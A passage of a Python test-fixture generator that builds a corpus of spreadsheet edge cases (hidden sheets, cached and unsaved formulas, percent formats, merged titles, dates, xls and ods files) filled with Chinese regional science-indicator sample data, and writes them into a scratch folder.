    "export-output-device": _char_device,
    "read-only-report": _read_only_report,
    "export-output-over-report": lambda path, data: None,  # the shipped report itself
    "xlsx-hidden-first-sheet": _openpyxl_book(
        [("旧数据", [["指标", "数值"], ["培养创客", 999]]), ("2019", [["指标", "数值"], ["培养创客", 1234]])],
        hidden=["旧数据"],
    ),
    # shapes
    "cumulative-figure": _cumulative,
    "xls-legacy": _xls,
    "ods-sheet": _ods,
    # kept working when the reader changes (fidelity)
    "xlsx-percent-format": _xlsx([["指标", "数值"], ["全社会研发经费支出占GDP比重", 0.0085]], {"B2": 1}),
    "xlsx-cached-formula": _xlsx([["指标", "数值"], ["培养创客", ("f", "SUM(600,634)", 1234)]]),
    "xlsx-formula-not-saved": _xlsx(
        [
            ["填报单位：德宏州科技局"],
            [],
            [],
            ["指标", "数值"],
            ["国家高新技术企业", 9],
            ["培养创客", ("f", "SUM(600,634)", None)],
        ]
    ),
    "xlsx-merged-title-dates": _openpyxl_book(
        [
            (
                "Sheet1",
                [
                    ["德宏州2019年科技创新指标完成情况", None, None],
                    ["指标", "数值", "填报日期"],
                    ["培养创客", 1234, __import__("datetime").date(2020, 1, 15)],
                ],
            )
        ],
        merged=[("Sheet1", "A1:C1")],
        dates=[("Sheet1", "C3")],
    ),
}


def make_all(out: Path) -> dict[str, Path]:
    """Every generated file of the corpus in OUT (a scratch folder: some cases need their own data)."""
    made: dict[str, Path] = {}
    for name, case in load().items():
        if case.committed is not None:
            continue
        root = out / name
        root.mkdir(parents=True, exist_ok=True)
        try:
            made[name] = prepare(case, root).file
        except Unavailable as exc:
            print(f"{name}: skipped ({exc})", file=sys.stderr)
    return made


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "sheet-corpus")
    for name, path in make_all(target).items():
        size = path.stat().st_size if path.is_file() and not path.is_fifo() else 0
        print(f"{name:36} {size:>12,}  {path}")
